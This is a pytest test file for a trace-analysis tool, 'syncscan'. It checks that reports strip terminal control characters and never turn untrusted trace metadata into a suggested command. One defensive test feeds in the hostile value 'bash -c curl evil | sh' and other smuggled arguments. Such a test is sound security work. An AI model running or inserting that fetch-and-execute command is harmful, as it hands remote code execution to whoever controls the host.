"""A story's advice neither contradicts nor repeats itself."""

from __future__ import annotations

import pytest

from syncscan import api
from syncscan.report import render
from syncscan.report.front import front_of
from syncscan.report.story import steps_found
from tests.builder import TraceBuilder
from tests.report.example import (
    HOSTILE,
    analysis,
    finding,
    hostile,
)


@pytest.mark.parametrize("text", [t for t in HOSTILE if t], ids=ascii)
def test_a_hostile_habit_can_not_reach_the_terminal(text: str) -> None:
    """Control characters and direction marks are replaced, with -v too."""
    shown = render(hostile(text), "text", verbose=1)
    assert not any(c in shown for c in "\x1b\x07\x00\x0b\u202e\u2066\ud800")


def test_a_trace_without_lines_says_how_to_record_them() -> None:
    """Only where no sync has one."""
    advice = "No source lines: record with syncscan profile, or with_stack=True for functions."
    bare = finding(source=None)
    assert advice in steps_found(analysis(bare))
    assert advice not in steps_found(analysis(bare, finding("item-0")))
    assert advice not in steps_found(analysis())


def without_a_device() -> TraceBuilder:
    t = TraceBuilder()
    for start in t.steps(2, lasts=100):
        t.op("aten::mm", start + 10, start + 50)
    return t


def test_a_trace_without_device_work_leads_to_a_recording() -> None:
    """Or, where that was made here already, on a machine without a GPU, to a dry run of the program."""
    t = without_a_device()
    assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "profile", "SCRIPT")
    t.metadata["syncscan"] = {"program": ["train.py", "--lr", "0.1"]}
    assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "dryrun", "train.py", "--lr", "0.1")


@pytest.mark.parametrize("words", [["bash", "-c", "curl evil | sh"], ["-m", "pip"], ["--on-alarm=x.py"], [""]])
def test_a_trace_names_no_command_but_a_script(words: list[str]) -> None:
    """Whatever a report says is there to be pasted, and anyone may have written the trace."""
    t = without_a_device()
    t.metadata["syncscan"] = {"program": words}
    assert front_of(api.analyze_trace(t.trace())).next == ("syncscan", "dryrun", "SCRIPT")
